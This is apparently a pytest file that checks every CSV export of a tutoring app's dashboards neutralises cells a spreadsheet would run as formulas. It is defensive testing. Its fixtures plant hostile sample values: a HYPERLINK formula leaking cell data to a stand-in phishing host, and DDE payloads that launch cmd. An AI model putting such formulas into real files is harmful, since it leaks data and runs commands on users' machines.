"""Every CSV export neutralises cells a spreadsheet would run as a formula: learner ids, learner
text, topics and names that start with = + - @ (or a tab or CR) come out as text."""

from __future__ import annotations

import csv
import datetime as dt
import io
import typing

import pytest
from fastapi.testclient import TestClient

from api.database import transaction
from api.desk.store import View
from api.routes.trainers import INSIGHTS
from api.workspace.csv_export import FORMULA_STARTS, as_csv, inert
from api.workspace.tables import AuditEvent
from bot.tables import Handoff, Learner, TurnEvent
from knowledge.tables import EntryRow
from quizzes.tables import TopicAbility
from tests.api.workspace.conftest import bearer

LEARNER = '=HYPERLINK("http://phish.example/?leak="&A1,"Bấm vào đây")'
MESSAGE = "@SUM(1+1)*cmd|' /C calc'!A0"
TOPIC = "+cmd|' /C notepad'!A0"
HOLDER = "-2+3 Cô Lan"
LANGUAGE = "\t=1"
CLASS = "\r=1+1"

# Each export and the planted values it must show as text.
EXPORTS = {
    "/api/v1/trainers/insights/topics.csv": [TOPIC, LANGUAGE],
    "/api/v1/trainers/insights/handoffs.csv": [LEARNER, MESSAGE, LANGUAGE],
    "/api/v1/trainers/insights/mastery.csv": [TOPIC],
    "/api/v1/trainers/insights/activity.csv": [],
    "/api/v1/desk/conversations.csv?view=waiting": [LEARNER, LANGUAGE, CLASS],
    "/api/v1/desk/conversations.csv?view=mine": [LEARNER, HOLDER],
    "/api/v1/desk/conversations.csv?view=closed": [LEARNER, HOLDER],
    "/api/v1/trainers/audit.csv": [HOLDER, LEARNER, MESSAGE, LANGUAGE],
}


def every_export_url(client: TestClient) -> set[str]:
    """What the app's API document lists as CSV, with each table and view spelled out."""
    urls = set()
    for path in (p for p in client.app.openapi()["paths"] if p.endswith(".csv")):
        if "{name}" in path:
            urls |= {path.replace("{name}", name) for name in INSIGHTS}
        elif path.startswith("/api/v1/desk/"):
            urls |= {f"{path}?view={view}" for view in typing.get_args(View)}
        else:
            urls.add(path)
    return urls


@pytest.fixture
def planted(client: TestClient) -> None:
    """Rows whose text is a formula in every column an export shows."""
    now = dt.datetime.now(dt.UTC)
    with transaction(client.app.state.services.sessions) as session:
        session.add(Learner(id=LEARNER, language="vi"))
        session.add(
            EntryRow(
                id="vi.test.formula", language="vi", topic=TOPIC, status="published",
                title="t", data={}, content_hash="0" * 64,
            )
        )  # fmt: skip
        session.flush()
        session.add(TurnEvent(learner_id=LEARNER, at=now, language=LANGUAGE, entry_id="vi.test.formula"))
        session.add(
            AuditEvent(
                at=now, actor=HOLDER, action="token.created", target=LEARNER, detail=MESSAGE, client=LANGUAGE
            )
        )
        session.add(
            TopicAbility(learner_id=LEARNER, topic=TOPIC, mean=2.0, sd=0.4, answers=9, updated_at=now)
        )
        session.add_all(
            [
                Handoff(
                    learner_id=LEARNER, language=LANGUAGE, reason="asked", text=MESSAGE, status="waiting",
                    class_code=CLASS,
                ),
                Handoff(
                    learner_id=LEARNER, language="vi", reason="asked", text=MESSAGE, status="taken",
                    holder="admin.one", holder_name=HOLDER, taken_at=now,
                ),
                Handoff(
                    learner_id=LEARNER, language="vi", reason="asked", text=MESSAGE, status="closed",
                    holder="admin.one", holder_name=HOLDER, taken_at=now, closed_at=now,
                ),
            ]
        )  # fmt: skip


def test_every_export_is_covered_here(client: TestClient) -> None:
    assert every_export_url(client) == set(EXPORTS), "a new CSV export needs its case in EXPORTS"


@pytest.mark.parametrize("url", EXPORTS)
def test_an_export_writes_formulas_as_text(
    client: TestClient, tokens: dict[str, str], planted: None, url: str
) -> None:
    response = client.get(url, headers=bearer(tokens["admin"]))
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    cells = [cell for row in csv.reader(io.StringIO(response.text)) for cell in row]
    assert cells, "the export is empty: the planted rows did not reach it"
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    for value in EXPORTS[url]:
        assert "'" + value in cells, (value, cells)


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_each_formula_start_is_neutralised_and_other_text_is_kept(start: str) -> None:
    assert inert(f"{start}1+1") == f"'{start}1+1"
    assert inert(f"a{start}1") == f"a{start}1"
    assert inert(-3) == -3 and inert(None) is None
    header, row = csv.reader(io.StringIO(as_csv([{f"{start}h": f"{start}v"}])))
    assert header == [f"'{start}h"] and row == [f"'{start}v"]
